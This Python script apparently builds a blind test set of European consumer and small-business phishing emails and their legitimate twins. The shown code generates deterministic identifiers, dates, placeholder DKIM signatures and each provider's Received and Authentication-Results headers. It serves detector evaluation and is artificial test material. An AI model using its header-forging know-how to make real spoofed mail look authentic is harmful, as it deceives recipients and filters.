"""Build blind set 12: European consumer and small-business phishing, 2022-2026, and its legitimate twins.

The fifty phishing messages are the ones that land in ordinary European
inboxes: customers of orange.fr, free.fr, sfr.fr, laposte.net, wanadoo.fr,
gmx.de, web.de, t-online.de, libero.it, virgilio.it, telefonica.net,
hotmail.es, ziggo.nl, kpnmail.nl, sapo.pt, btinternet.com, sky.com and
eircom.net, and small businesses whose own (fictional) domains sit on OVH,
IONOS, Aruba, Strato, Google Workspace or Microsoft 365. They are written
in French, German, Italian, Spanish, Dutch, Portuguese and UK/Irish
English and imitate banks ("new security system", secure key, PSD2/DSP2
strong authentication), carriers and customs fees, tax and benefit offices,
energy and telecom operators, toll and fine agencies, second-hand
marketplaces ("the buyer has paid, confirm to receive the money"), the
ISP's own webmail and a few global brands; they come from compromised
mailboxes, throwaway and lookalike domains and abused bulk senders, and
lead through shorteners, open redirects, compromised WordPress sites and
free hosting, or carry HTML attachments with obfuscated JavaScript, QR
codes in PDFs and images, zero-width characters, homoglyphs, image-only
bodies and hidden filler text. The twenty-five legitimate messages are
their real counterparts: bank notices from the banks' own domains that
send the customer to the app, carrier notifications, impots.gouv, ameli
and HMRC notices, EDF and E.ON bills with their PDF, a telecom bill,
Vinted, Leboncoin and Amazon notifications, a city-hall newsletter, a
German club's list mail, an Italian condominium administrator's letter,
a Dutch family photo album, a Spanish landlord, a UK council tax reminder
and small tradespeople's invoices and quotes. Each message carries the
headers its receiving provider records (Received chain, Authentication-
Results for the real sending infrastructure, the provider's own filter
headers where it writes them). Everything is deterministic: fixed dates,
identifiers derived from hashes of the sample name, fixed MIME boundaries
and archive timestamps. Run from the repository root:

    .venv/bin/python samples/tools/build_blind12_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import io
import sys
import zlib
from datetime import datetime, timedelta
from email.utils import parsedate_to_datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind12_manifest.txt"

SAMPLES: list[tuple[str, str, str, object]] = []


def sample(category: str, filename: str, description: str):
    """Register a builder: it returns the message bytes for samples/mail/<category>/<filename>."""
    def register(builder):
        SAMPLES.append((category, filename, description, builder))
        return builder
    return register


# --------------------------------------------------------------------------------------------
# Deterministic identifiers
# --------------------------------------------------------------------------------------------

def _stream(name: str, label: str, size: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"b12|{name}|{label}|{counter}".encode()).digest()
        counter += 1
    return out[:size]


def hexid(name: str, label: str, n: int = 16, upper: bool = False) -> str:
    value = _stream(name, label, (n + 1) // 2).hex()[:n]
    return value.upper() if upper else value


_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def alnum(name: str, label: str, n: int = 16, alphabet: str = _ALNUM) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in _stream(name, label, n))


def b64(name: str, label: str, n: int) -> str:
    """n characters of base64 text (for signatures, bh= values)."""
    return base64.b64encode(_stream(name, label, n)).decode()[:n]


def uuid(name: str, label: str) -> str:
    h = hexid(name, label, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def digits(name: str, label: str, n: int) -> str:
    return "".join(str(b % 10) for b in _stream(name, label, n))


# --------------------------------------------------------------------------------------------
# Dates
# --------------------------------------------------------------------------------------------

_DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
_MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def when(date: str) -> datetime:
    return parsedate_to_datetime(date)


def rfc(dt: datetime, tz: str | None = None, zone_name: str = "") -> str:
    """RFC 5322 date of dt, in the offset tz ('+0100', '+0000', '-0700') if given."""
    if tz is not None:
        sign = 1 if tz[0] == "+" else -1
        offset = timedelta(hours=int(tz[1:3]), minutes=int(tz[3:5])) * sign
        from datetime import timezone
        dt = dt.astimezone(timezone(offset))
    text_ = f"{_DAYS[dt.weekday()]}, {dt.day:02d} {_MONTHS[dt.month - 1]} {dt.year} {dt:%H:%M:%S} {dt:%z}"
    return text_ + (f" ({zone_name})" if zone_name else "")


def rfc1(dt: datetime, tz: str | None = None, zone_name: str = "") -> str:
    """Same, with the day of month not zero-padded (as Outlook, Postfix and Exim write it)."""
    value = rfc(dt, tz, zone_name)
    return value[:5] + value[5:].lstrip("0") if value[5] == "0" else value


def later(dt: datetime, seconds: float) -> datetime:
    return dt + timedelta(seconds=seconds)


def _last_sunday(year: int, month: int) -> datetime:
    from datetime import timezone
    day = datetime(year, month + 1, 1, tzinfo=timezone.utc) - timedelta(days=1) if month < 12 else datetime(year, 12, 31, tzinfo=timezone.utc)
    return day - timedelta(days=(day.weekday() + 1) % 7)


def eu_summer(dt: datetime) -> bool:
    """EU summer time: from 01:00 UTC on the last Sunday of March to 01:00 UTC on the last Sunday of October."""
    start = _last_sunday(dt.year, 3) + timedelta(hours=1)
    end = _last_sunday(dt.year, 10) + timedelta(hours=1)
    return start <= dt < end


def us_summer(dt: datetime) -> bool:
    """US daylight time: second Sunday of March 10:00 UTC to first Sunday of November 09:00 UTC (Pacific)."""
    from datetime import timezone
    march = datetime(dt.year, 3, 1, tzinfo=timezone.utc)
    start = march + timedelta(days=(6 - march.weekday()) % 7 + 7, hours=10)
    november = datetime(dt.year, 11, 1, tzinfo=timezone.utc)
    end = november + timedelta(days=(6 - november.weekday()) % 7, hours=9)
    return start <= dt < end


def cet(dt: datetime) -> str:
    return "+0200" if eu_summer(dt) else "+0100"


def cetz(dt: datetime) -> str:
    return "CEST" if eu_summer(dt) else "CET"


def wet(dt: datetime) -> str:
    return "+0100" if eu_summer(dt) else "+0000"


def wetz(dt: datetime) -> str:
    return "WEST" if eu_summer(dt) else "WET"


def pac(dt: datetime) -> str:
    return "-0700" if us_summer(dt) else "-0800"


def pacz(dt: datetime) -> str:
    return "PDT" if us_summer(dt) else "PST"


def epoch(dt: datetime) -> int:
    return int(dt.timestamp())


# --------------------------------------------------------------------------------------------
# Header helpers
# --------------------------------------------------------------------------------------------

def enc(value: str, mode: str = "B", charset: str = "UTF-8") -> str:
    """RFC 2047 encoded words for a non-ASCII header value, folded as mail clients write them."""
    if all(ord(c) < 128 for c in value) and "\u200b" not in value:
        return value
    words: list[str] = []
    current = ""
    limit = 45 if mode == "B" else 40
    for char in value:
        if len((current + char).encode(charset)) > limit:
            words.append(current)
            current = ""
        current += char
    if current:
        words.append(current)
    out = []
    for word in words:
        raw = word.encode(charset)
        if mode == "B":
            out.append(f"=?{charset}?B?{base64.b64encode(raw).decode()}?=")
        else:
            q = "".join(
                chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else ("_" if b == 32 else f"={b:02X}")
                for b in raw)
            out.append(f"=?{charset}?Q?{q}?=")
    return "\n ".join(out)


def addr(display: str, email: str, mode: str = "B") -> str:
    if not display:
        return f"<{email}>"
    if all(ord(c) < 128 for c in display):
        if any(c in display for c in ',.;:@()[]<>"\'') :
            return f'"{display}" <{email}>'
        return f"{display} <{email}>"
    return f"{enc(display, mode)} <{email}>"


def fold_b64(value: str, first: int = 60, width: int = 70, indent: str = "\t ") -> str:
    parts = [value[:first]]
    rest = value[first:]
    while rest:
        parts.append(rest[:width])
        rest = rest[width:]
    return ("\n" + indent).join(parts)


def dkim(name: str, d: str, s: str, dt: datetime, fields: str, c: str = "relaxed/relaxed",
         keybits: int = 2048, label: str = "", style: str = "std") -> str:
    """A DKIM-Signature of the right shape (not a real signature)."""
    bh = b64(name, f"bh{d}{label}", 43) + "="
    blen = 342 if keybits == 2048 else 170
    b = b64(name, f"b{d}{label}", blen) + ("==" if keybits == 2048 else "=")
    if style == "google":
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c};\n"
                f"        d={d}; s={s}; t={epoch(dt)}; x={epoch(dt) + 604800}; darn=REPL;\n"
                f"        h={fields};\n"
                f"        bh={bh};\n"
                f"        b={fold_b64(b, 60, 70, '         ')}")
    if style == "ms":
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c};\n"
                f" d={d}; s={s};\n"
                f" h={fields};\n"
                f" bh={bh};\n"
                f" b={fold_b64(b, 76, 76, ' ')}")
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={d};\n"
            f"\ts={s}; t={epoch(dt)};\n"
            f"\tbh={bh};\n"
            f"\th={fields};\n"
            f"\tb={fold_b64(b)}")


# --------------------------------------------------------------------------------------------
# Authentication results, as each receiving provider writes them
# --------------------------------------------------------------------------------------------

class Auth:
    """What the receiving MTA found: SPF for the envelope domain, DKIM, DMARC for the From domain."""

    def __init__(self, mailfrom: str, from_domain: str, spf: str = "pass", dkim: str = "none",
                 dkim_d: str = "", dkim_s: str = "", dmarc: str = "none", policy: str = "none",
                 dkim_extra: tuple[str, str] | None = None):
        self.mailfrom = mailfrom
        self.mf_domain = mailfrom.rsplit("@", 1)[-1]
        self.from_domain = from_domain
        self.spf = spf
        self.dkim = dkim
        self.dkim_d = dkim_d
        self.dkim_s = dkim_s
        self.dmarc = dmarc
        self.policy = policy
        self.dkim_extra = dkim_extra  # a second passing signature (ESP domain)


def ar_generic(authserv: str, a: Auth, ip: str, name: str, fold: str = "\n\t") -> str:
    parts = [f"spf={a.spf} smtp.mailfrom={a.mailfrom}" + (f" smtp.remote-ip={ip}" if authserv.startswith("mx") else "")]
    if a.dkim == "none":
        parts.append("dkim=none")
    else:
        parts.append(f"dkim={a.dkim} header.d={a.dkim_d} header.s={a.dkim_s} header.b={b64(name, 'b' + a.dkim_d, 8)}")
    if a.dkim_extra:
        parts.append(f"dkim=pass header.d={a.dkim_extra[0]} header.s={a.dkim_extra[1]} "
                     f"header.b={b64(name, 'b' + a.dkim_extra[0] + 'x', 8)}")
    if a.dmarc == "none":
        parts.append(f"dmarc=none (p=none dis=none) header.from={a.from_domain}" if a.policy != "absent"
                     else f"dmarc=none header.from={a.from_domain}")
    else:
        dis = "none" if a.dmarc == "pass" or a.policy == "none" else a.policy
        parts.append(f"dmarc={a.dmarc} (p={a.policy} dis={dis}) header.from={a.from_domain}")
    return f"Authentication-Results: {authserv};" + fold + (";" + fold).join(parts)


def ar_google(a: Auth, ip: str, name: str) -> tuple[str, str]:
    lines = []
    if a.dkim != "none":
        lines.append(f"dkim={a.dkim} header.i=@{a.dkim_d} header.s={a.dkim_s} header.b={b64(name, 'b' + a.dkim_d, 8)}")
    if a.dkim_extra:
        lines.append(f"dkim=pass header.i=@{a.dkim_extra[0]} header.s={a.dkim_extra[1]} "
                     f"header.b={b64(name, 'b' + a.dkim_extra[0] + 'x', 8)}")
    spf_text = {
        "pass": f"(google.com: domain of {a.mailfrom} designates {ip} as permitted sender)",
        "softfail": f"(google.com: domain of transitioning {a.mailfrom} does not designate {ip} as permitted sender)",
        "fail": f"(google.com: domain of {a.mailfrom} does not designate {ip} as permitted sender)",
        "neutral": f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {a.mailfrom})",
        "none": f"(google.com: {a.mailfrom} does not designate permitted sender hosts)",
    }[a.spf]
    lines.append(f"spf={a.spf} {spf_text} smtp.mailfrom={a.mailfrom}")
    if a.dmarc == "pass":
        pol = a.policy.upper()
        lines.append(f"dmarc=pass (p={pol} sp={pol} dis=NONE) header.from={a.from_domain}")
    elif a.dmarc == "fail":
        pol = a.policy.upper()
        dis = "NONE" if pol == "NONE" else pol
        lines.append(f"dmarc=fail (p={pol} sp={pol} dis={dis}) header.from={a.from_domain}")
    elif a.policy != "absent":
        lines.append(f"dmarc=pass (p=NONE sp=NONE dis=NONE) header.from={a.from_domain}"
                     if a.spf == "pass" or a.dkim == "pass" else f"dmarc=fail (p=NONE sp=NONE dis=NONE) header.from={a.from_domain}")
    ar = "Authentication-Results: mx.google.com;\n       " + ";\n       ".join(lines)
    rspf = {
        "pass": f"Received-SPF: pass (google.com: domain of {a.mailfrom} designates {ip} as permitted sender) client-ip={ip};",
        "softfail": f"Received-SPF: softfail (google.com: domain of transitioning {a.mailfrom} does not designate {ip} as permitted sender) client-ip={ip};",
        "fail": f"Received-SPF: fail (google.com: domain of {a.mailfrom} does not designate {ip} as permitted sender) client-ip={ip};",
        "neutral": f"Received-SPF: neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {a.mailfrom}) client-ip={ip};",
        "none": f"Received-SPF: none (google.com: {a.mailfrom} does not designate permitted sender hosts) client-ip={ip};",
    }[a.spf]
    return ar, rspf


def ar_microsoft(a: Auth, ip: str) -> tuple[str, str]:
    spf = f"spf={a.spf} (sender IP is {ip})\n smtp.mailfrom={a.mf_domain}"
    if a.dkim == "none":
        dk = "dkim=none (message not signed)\n header.d=none"
    elif a.dkim == "pass":
        dk = f"dkim=pass (signature was verified)\n header.d={a.dkim_d}"
    else:
        dk = f"dkim=fail (body hash did not verify)\n header.d={a.dkim_d}"
    if a.dmarc == "pass":
        dm = f"dmarc=pass action=none header.from={a.from_domain};compauth=pass reason=100"
    elif a.dmarc == "fail":
        action = {"reject": "oreject", "quarantine": "quarantine"}.get(a.policy, "none")
        dm = f"dmarc=fail action={action} header.from={a.from_domain};compauth=fail reason=000"
    elif a.policy == "absent":
        dm = (f"dmarc=none action=none header.from={a.from_domain};compauth="
              + ("softpass reason=201" if a.spf == "pass" or a.dkim == "pass" else "fail reason=001"))
    else:
        dm = (f"dmarc=bestguesspass action=none header.from={a.from_domain};compauth=pass reason=109"
              if a.spf == "pass" or a.dkim == "pass" else f"dmarc=none action=none header.from={a.from_domain};compauth=fail reason=001")
    ar = f"Authentication-Results: {spf}; {dk};{dm}"
    verb = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "none": "None", "neutral": "Neutral"}[a.spf]
    explain = {
        "pass": f"domain of {a.mf_domain} designates {ip} as permitted sender",
        "fail": f"domain of {a.mf_domain} does not designate {ip} as permitted sender",
        "softfail": f"domain of transitioning {a.mf_domain} discourages use of {ip} as permitted sender",
        "none": f"{a.mf_domain} does not designate permitted sender hosts",
        "neutral": f"{ip} is neither permitted nor denied by domain of {a.mf_domain}",
    }[a.spf]
    return ar, f"Received-SPF: {verb} (protection.outlook.com: {explain})\n receiver=protection.outlook.com; client-ip={ip};"


# --------------------------------------------------------------------------------------------
# Receiving providers: the headers each one writes above (top) and below (trail) the message's own
# --------------------------------------------------------------------------------------------

class Hop:
    """The connection that delivered the message to the recipient's provider."""

    def __init__(self, ptr: str, ip: str, helo: str | None = None):
        self.ptr = ptr
        self.ip = ip
        self.helo = helo or ptr


def inbound(provider: str, name: str, rcpt: str, dt: datetime, hop: Hop, a: Auth,
            spam: str = "ham", geo: tuple[str, str] = ("FR", "fr")) -> tuple[list[str], list[str]]:
    """Top and trailing header lines written by the recipient's provider at dt (arrival time)."""
    ptr = hop.ptr if hop.ptr else "unknown"
    mf = a.mailfrom
    top: list[str] = [f"Return-Path: <{mf}>"]
    trail: list[str] = []
    if provider in ("orange", "wanadoo"):
        node = 10 + int(hexid(name, "mwinf", 2), 16) % 80
        meid = alnum(name, "meid", 22)
        top.append(f"Received: from {ptr} ([{hop.ip}]) by mwinf5d{node:02d} with ME\n"
                   f"\tid {meid}; {rfc(dt, cet(dt))}")
        top.append(f"X-ME-Helo: {hop.helo}")
        top.append(f"X-ME-IP: {hop.ip}")
        top.append(f"X-ME-Date: {rfc(dt, cet(dt))}")
        top.append(ar_generic(f"mwinf5d{node:02d}.me-wanadoo.net", a, hop.ip, name))
        rating = {"ham": "18.00", "suspect": "51.00"}.get(spam, "18.00")
        top.append(f"X-me-spamrating: {rating}")
        top.append(f"X-me-spamlevel: {'not-spam' if spam == 'ham' else 'suspect'}")
    elif provider == "free":
        z = 10 + int(hexid(name, "zimbra", 2), 16) % 40
        mx = 1 + int(hexid(name, "mx", 2), 16) % 2
        g = 20 + int(hexid(name, "g", 2), 16) % 6
        local = rfc1(dt, cet(dt),
                     cetz(dt))
        top.append(f"Received: from zimbra{z}-e3.priv.proxad.net (LHLO\n zimbra{z}-e3.priv.proxad.net) "
                   f"(172.20.243.{100 + z}) by\n zimbra{z}-e3.priv.proxad.net with LMTP; {local}")
        top.append(f"Received: from {ptr} (mx{mx + 1}-g{g}.priv.proxad.net [172.20.243.{80 + g}])\n"
                   f"\tby zimbra{z}-e3.priv.proxad.net (Postfix) with ESMTP id {hexid(name, 'pfx', 11, True)}\n"
                   f"\tfor <{rcpt}>; {local}")
        top.append(f"Received: from {ptr} ([{hop.ip}])\n\tby mx{mx}-g{g}.free.fr (MXproxy) for {rcpt} ;\n\t{local}")
        top.append(ar_generic(f"mx{mx}-g{g}.free.fr", a, hop.ip, name))
        score = {"ham": "0", "suspect": "34"}.get(spam, "0")
        top.append(f"X-ProXaD-SC: state={'HAM' if spam == 'ham' else 'HAM:Suspect'} score={score}")
    elif provider == "sfr":
        n = 1 + int(hexid(name, "sfr", 2), 16) % 30
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby mx-in.sfr.fr (msfrf{2100 + n}) with ESMTPS id "
                   f"{alnum(name, 'sfrid', 14)}\n\tfor <{rcpt}>; {rfc(dt, cet(dt))}")
        top.append(ar_generic("sfr.fr", a, hop.ip, name))
    elif provider == "laposte":
        n = 1 + int(hexid(name, "lpn", 2), 16) % 20
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby mx{n:02d}.laposte.net (Postfix) with ESMTPS id "
                   f"{hexid(name, 'lpnid', 11, True)}\n\tfor <{rcpt}>; "
                   f"{rfc1(dt, cet(dt), cetz(dt))}")
        top.append(ar_generic(f"mx{n:02d}.laposte.net", a, hop.ip, name))
    elif provider in ("gmx", "webde"):
        host = "mx-ha.gmx.net" if provider == "gmx" else "mx-ha.web.de"
        node = ("mxgmx" if provider == "gmx" else "mxweb") + str(100 + int(hexid(name, "nem", 2), 16) % 20)
        ip = "212.227.17.5" if provider == "gmx" else "212.227.17.8"
        auth_id = "gmx.net" if provider == "gmx" else "web.de"
        dk = (f"dkim={a.dkim} header.i=@{a.dkim_d}" if a.dkim != "none" else "dkim=none")
        top.append(f"Authentication-Results: {auth_id}; {dk}; spf={a.spf} smtp.mailfrom={a.mailfrom};\n"
                   f" dmarc={a.dmarc if a.dmarc != 'none' else 'none'} header.from={a.from_domain}")
        nem = f"{alnum(name, 'nem1', 6)}-{alnum(name, 'nem2', 10)}-{alnum(name, 'nem3', 6)}"
        top.append(f"Received: from {ptr} ([{hop.ip}]) by {host}\n ({node} [{ip}]) with ESMTPS (Nemesis) id {nem}\n"
                   f" for <{rcpt}>; {rfc(dt, cet(dt))}")
        trail.append(f"Envelope-To: <{rcpt}>")
        trail.append("X-GMX-Antispam: 0 (Mail was not recognized as spam); Detail=V3;")
        trail.append("X-GMX-Antivirus: 0 (no virus found)")
        blob = b64(name, "uifilter", 300).replace("=", "")
        trail.append(f"X-UI-Filterresults: notjunk:1;V03:K0:{b64(name, 'uik', 11)}=:" + fold_b64(blob, 36, 74, " "))
    elif provider == "tonline":
        n = 10 + int(hexid(name, "mailin", 2), 16) % 80
        e = 10 + int(hexid(name, "ehead", 2), 16) % 20
        local = rfc(dt, cet(dt))
        top.append(f"Received: from mailin{n}.aul.t-online.de ([10.223.144.{n + 40}])\n"
                   f"\tby ehead{e}a{(n * 7) % 30:02d}.aul.t-online.de with LMTP\n"
                   f"\tid {alnum(name, 'lmtp', 22)}\n\t(envelope-from <{mf}>); {rfc(later(dt, 9), cet(dt))}")
        top.append(f"Received: from {ptr} ([{hop.ip}]) by mailin{n}.mgt.mul.t-online.de\n"
                   f"\twith (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\n"
                   f"\tesmtp id {alnum(name, 'esmtp1', 7)}-{alnum(name, 'esmtp2', 7)}0; {local}")
        klass = {"ham": "/0/0 CLEAN NORMAL", "bulk": f"/3/{digits(name, 'bulk', 10)} BULK NORMAL",
                 "suspect": f"/1/{digits(name, 'sus', 10)} SUSPECT MAIL-COUNT"}[spam]
        trail.append("X-TOI-VIRUSSCAN: unchecked")
        trail.append(f"X-TOI-EXPURGATEID: 150726::{epoch(dt)}-{hexid(name, 'x1', 8, True)}-{hexid(name, 'x2', 8, True)}{klass}")
        trail.append(f"X-TOI-MSGID: {uuid(name, 'toimsg')}")
        trail.append(f"X-ENVELOPE-TO: <{rcpt}>")
        if a.dkim != "none":
            trail.append(f"Authentication-Results: mailin{n}.aul.t-online.de;\n"
                         f"\tdkim={a.dkim} (2048-bit key; unprotected) header.d={a.dkim_d} header.i=@{a.dkim_d} "
                         f"header.a=rsa-sha256 header.s={a.dkim_s} header.b={b64(name, 'b' + a.dkim_d, 8)};\n\tdkim-atps=neutral")
    elif provider in ("libero", "virgilio"):
        n = 1 + int(hexid(name, "iol", 2), 16) % 40
        dom = "libero.it" if provider == "libero" else "virgilio.it"
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n        by smtp-in-{n:02d}.iol.local with ESMTPS\n"
                   f"        id {alnum(name, 'iolid', 22)}\n        for <{rcpt}>; {rfc(dt, cet(dt))}")
        top.append(ar_generic(dom, a, hop.ip, name, "\n        "))
        ts = format(epoch(dt), "x")
        top.append(f"X-CNFS-Analysis: v=2.4 cv={alnum(name, 'cv', 8)} c=1 sm=1 tr=0 ts={ts}\n"
                   f" a={b64(name, 'cna', 22)}==:117 a={b64(name, 'cna', 22)}==:17\n"
                   f" a={alnum(name, 'cnb', 12)}:10 a={alnum(name, 'cnc', 20)}:9 a=QEXdDO2ut3YA:10")
    elif provider == "telefonica":
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby mx.telefonica.net (Postfix) with ESMTPS id "
                   f"{hexid(name, 'tef', 12, True)}\n\tfor <{rcpt}>; {rfc1(dt, cet(dt), cetz(dt))}")
        top.append(ar_generic("mx.telefonica.net", a, hop.ip, name))
    elif provider in ("hotmail", "m365"):
        # Outlook.com / Exchange Online: the frontend (protection) hop, then the mailbox hops.
        region = "EURP195" if provider == "hotmail" else "EURP189"
        p1 = f"AS8P{190 + int(hexid(name, 'p1', 2), 16) % 9}MB{1000 + int(hexid(name, 'p1b', 3), 16) % 8999}"
        p2 = f"DU7P{191 + int(hexid(name, 'p2', 2), 16) % 5}CA{int(hexid(name, 'p2b', 3), 16) % 99:04d}"
        p3 = f"DB{1 + int(hexid(name, 'p3', 1), 16) % 5}PEPF0000{hexid(name, 'p3b', 4, True)}"
        t = rfc1(dt, "+0000")
        build = f"15.20.{7000 + int(hexid(name, 'bld', 3), 16) % 1900}.{10 + int(hexid(name, 'bld2', 2), 16) % 30}"
        top.append(f"Received: from {p1}.{region}.PROD.OUTLOOK.COM (2603:10a6:20b:{hexid(name, 'v6a', 3)}::{hexid(name, 'v6b', 2)})\n"
                   f" by PAXP{190 + int(hexid(name, 'p0', 2), 16) % 9}MB{1000 + int(hexid(name, 'p0b', 3), 16) % 8999}.{region}.PROD.OUTLOOK.COM with\n"
                   f" HTTPS; {rfc1(later(dt, 2), '+0000')}")
        top.append(f"Received: from {p2}.{region}.PROD.OUTLOOK.COM (2603:10a6:10:{hexid(name, 'v6c', 3)}::{hexid(name, 'v6d', 2)})\n"
                   f" by {p1}.{region}.PROD.OUTLOOK.COM (2603:10a6:20b:{hexid(name, 'v6a', 3)}::{hexid(name, 'v6b', 2)}) with\n"
                   f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {rfc1(later(dt, 1), '+0000')}")
        top.append(f"Received: from {p3}.eurprd04.prod.outlook.com\n (2603:10a6:10:{hexid(name, 'v6c', 3)}:cafe::{hexid(name, 'v6e', 2)}) by {p2}.outlook.office365.com\n"
                   f" (2603:10a6:10:{hexid(name, 'v6c', 3)}::{hexid(name, 'v6d', 2)}) with Microsoft SMTP Server (version=TLS1_3,\n"
                   f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {rfc1(later(dt, 1), '+0000')}")
        ar, rspf = ar_microsoft(a, hop.ip)
        top.append(ar)
        top.append(rspf)
        top.append(f"Received: from {ptr} ({hop.ip}) by\n {p3}.mail.protection.outlook.com (10.167.242.{int(hexid(name, 'fe', 2), 16) % 250})"
                   f" with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {t}")
        scl = {"ham": "1", "bulk": "1", "suspect": "5"}[spam]
        cat = {"ham": "NONE", "bulk": "BULK", "suspect": "SPM"}[spam]
        sfv = {"ham": "NSPM", "bulk": "NSPM", "suspect": "SPM"}[spam]
        trail.append("X-MS-Exchange-Organization-ExpirationStartTime: " + f"{dt:%d %b %Y %H:%M:%S}.{digits(name, 'ms', 4)} (UTC)")
        trail.append("X-MS-Exchange-Organization-Network-Message-Id: " + uuid(name, "netmsg"))
        trail.append("X-MS-Exchange-Organization-MessageDirectionality: Incoming")
        trail.append(f"X-MS-Exchange-Organization-SCL: {scl}")
        trail.append(f"X-MS-Exchange-Organization-AuthSource: {p3}.eurprd04.prod.outlook.com")
        trail.append("X-MS-Exchange-Organization-AuthAs: Anonymous")
        bcl = {"ham": "0", "bulk": "4", "suspect": "0"}[spam]
        trail.append(f"X-Microsoft-Antispam: BCL:{bcl};ARA:{digits(name, 'ara', 10)}|{digits(name, 'ara2', 7)}|{digits(name, 'ara3', 8)};")
        trail.append(f"X-Forefront-Antispam-Report: CIP:{hop.ip};CTRY:{geo[0]};LANG:{geo[1]};SCL:{scl};SRV:;IPV:NLI;SFV:{sfv};"
                     f"H:{hop.helo};PTR:{ptr};CAT:{cat};\n SFS:({digits(name, 'sfs1', 7)})({digits(name, 'sfs2', 11)});DIR:INB;")
    elif provider == "ziggo":
        top.append(f"Received: from {ptr} ([{hop.ip}])\n\tby cmsmtp with ESMTPS\n\tid {alnum(name, 'cmid', 22)}\n"
                   f"\tfor <{rcpt}>; {rfc(dt, cet(dt))}")
        top.append(ar_generic("ziggo.nl", a, hop.ip, name))
        top.append("X-CM-Score: 0.00")
        top.append(f"X-CNFS-Analysis: v=2.4 cv={alnum(name, 'cv', 8)} c=1 sm=1 tr=0 ts={format(epoch(dt), 'x')}\n"
                   f" a={b64(name, 'cna', 22)}==:117 a={b64(name, 'cna', 22)}==:17\n"
                   f" a={alnum(name, 'cnb', 12)}:10 a={alnum(name, 'cnc', 20)}:9")
    elif provider == "kpn":
        n = 1 + int(hexid(name, "kpn", 2), 16) % 9
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby mx{n}.kpnmail.nl (Halon) with ESMTPS\n"
                   f"\tid {uuid(name, 'halon')};\n\t{rfc1(dt, cet(dt), cetz(dt))}")
        top.append(ar_generic(f"mx{n}.kpnmail.nl", a, hop.ip, name))
    elif provider == "sapo":
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby mx.ptmail.sapo.pt (Postfix) with ESMTPS id "
                   f"{hexid(name, 'sapo', 10, True)}\n\tfor <{rcpt}>; {rfc1(dt, wet(dt), wetz(dt))}")
        top.append(ar_generic("mx.ptmail.sapo.pt", a, hop.ip, name))
        top.append("X-Virus-Scanned: amavisd-new at sapo.pt")
    elif provider in ("bt", "sky", "eircom"):
        host = {"bt": "mx.btinternet.com", "sky": "mx.sky.com", "eircom": "mx.eircom.net"}[provider]
        tz = wet(dt)
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby {host} with ESMTPS id {alnum(name, 'uk', 20)}\n"
                   f"\tfor <{rcpt}>; {rfc1(dt, tz, 'GMT' if tz == '+0000' else 'BST')}")
        top.append(ar_generic(host, a, hop.ip, name))
    elif provider == "ovh":
        n = 1 + int(hexid(name, "ovhmx", 1), 16) % 4
        top.append(f"Received: from {ptr} ({ptr} [{hop.ip}])\n\tby mx{n}.mail.ovh.net (Postfix) with ESMTPS id "
                   f"{hexid(name, 'ovhid', 12, True)}\n\tfor <{rcpt}>; {rfc1(dt, '+0000', 'UTC')}")
        top.append(ar_generic(f"mx{n}.mail.ovh.net", a, hop.ip, name))
        top.append(f"X-Ovh-Tracer-Id: {digits(name, 'tracer', 19)}")
        top.append("X-VR-SPAMSTATE: OK")
        top.append("X-VR-SPAMSCORE: 0")
        top.append("X-VR-SPAMCAUSE: gggruggvucftvghtrhhoucdtuddrgeef" + alnum(name, "vr", 96, "defghijklmnopqrstuvwxyz"))
    elif provider == "ionos":
        nem = f"{alnum(name, 'nem1', 6)}-{alnum(name, 'nem2', 10)}-{alnum(name, 'nem3', 6)}"
        top.append(f"Received: from {ptr} ([{hop.ip}]) by mx.kundenserver.de\n (mxeue{100 + int(hexid(name, 'mxe', 2), 16) % 20} "
                   f"[217.72.192.67]) with ESMTPS (Nemesis) id {nem}\n for <{rcpt}>; {rfc(dt, cet(dt))}")
        top.append(ar_generic("mx.kundenserver.de", a, hop.ip, name, "\n "))
        trail.append(f"Envelope-To: <{rcpt}>")
    elif provider == "strato":
        top.append(f"Received: from {ptr} ([{hop.ip}])\n\tby smtpin.rzone.de (RZmta 51.{int(hexid(name, 'rz', 1), 16) % 4}.0) with ESMTPS id "
                   f"{alnum(name, 'rzid', 15)}\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))\n"
                   f"\tfor <{rcpt}>;\n\t{rfc(dt, cet(dt), cetz(dt))}")
        top.append(ar_generic("strato.com", a, hop.ip, name))
        trail.append("X-RZG-Expurgate: clean/normal")
